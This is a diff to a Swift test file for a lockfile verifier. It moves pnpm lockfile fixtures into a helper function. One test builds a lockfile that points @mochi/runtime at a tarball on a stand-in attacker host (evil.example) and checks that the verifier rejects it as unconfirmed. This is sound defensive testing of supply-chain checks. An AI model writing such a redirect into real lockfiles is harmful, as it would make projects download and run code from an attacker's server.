@@ -62,22 +62,29 @@ import Testing
                 """
             try await expectUnconfirmed(yarn, file: "yarn.lock", support)
 
-            let pnpm = """
-                lockfileVersion: '9.0'
-                importers:
-                  .:
-                    dependencies:
-                      '@mochi/example': {specifier: ^1.1.0, version: \(example.version)}
-                packages:
-                  '@mochi/example@\(example.version)':
-                    resolution: {integrity: \(example.integrity)}
-                snapshots:
-                  '@mochi/example@\(example.version)':
-                    dependencies:
-                      '@mochi/runtime': '@mochi/example@\(example.version)'
-                """
+            let pnpm = Self.pnpmLock(example, runtime: "'@mochi/example@\(example.version)'")
             try await expectUnconfirmed(pnpm, file: "pnpm-lock.yaml", support)
         }
+    }
+
+    /// A v9 pnpm lockfile of the project asking for @mochi/example, whose snapshot links
+    /// @mochi/runtime to `runtime`, with more `packages` and `snapshots` entries.
+    static func pnpmLock(_ example: WorldLockfiles.Locked, runtime: String, packages: String = "", snapshots: String = "") -> String {
+        """
+        lockfileVersion: '9.0'
+        importers:
+          .:
+            dependencies:
+              '@mochi/example': {specifier: ^1.1.0, version: \(example.version)}
+        packages:
+          '@mochi/example@\(example.version)':
+            resolution: {integrity: \(example.integrity)}
+        \(packages)snapshots:
+          '@mochi/example@\(example.version)':
+            dependencies:
+              '@mochi/runtime': \(runtime)
+        \(snapshots)
+        """
     }
 
     /// Found by review: pnpm follows a registry package's snapshot to a tarball, git or folder
@@ -86,24 +93,8 @@ import Testing
         try await WorldSupport.with { support in
             let example = support.lockfiles.example
             let evil = "https://evil.example/runtime-1.2.0.tgz"
-            let pnpm = """
-                lockfileVersion: '9.0'
-                importers:
-                  .:
-                    dependencies:
-                      '@mochi/example': {specifier: ^1.1.0, version: \(example.version)}
-                packages:
-                  '@mochi/example@\(example.version)':
-                    resolution: {integrity: \(example.integrity)}
-                  '@mochi/runtime@\(evil)':
-                    resolution: {tarball: '\(evil)'}
-                    version: 1.2.0
-                snapshots:
-                  '@mochi/example@\(example.version)':
-                    dependencies:
-                      '@mochi/runtime': '\(evil)'
-                  '@mochi/runtime@\(evil)': {}
-                """
+            let pnpm = Self.pnpmLock(example, runtime: "'\(evil)'", packages: "  '@mochi/runtime@\(evil)':\n    resolution: {tarball: '\(evil)'}\n    version: 1.2.0\n",
+                                     snapshots: "  '@mochi/runtime@\(evil)': {}\n")
             let report = try await support.verify(pnpm, file: "pnpm-lock.yaml", settings: try support.settings())
             #expect(report.exitCode == 1, "\(report.text())")
             let failure = report.failed.flatMap(\.failures).first { $0.code == .sourceUnconfirmed }
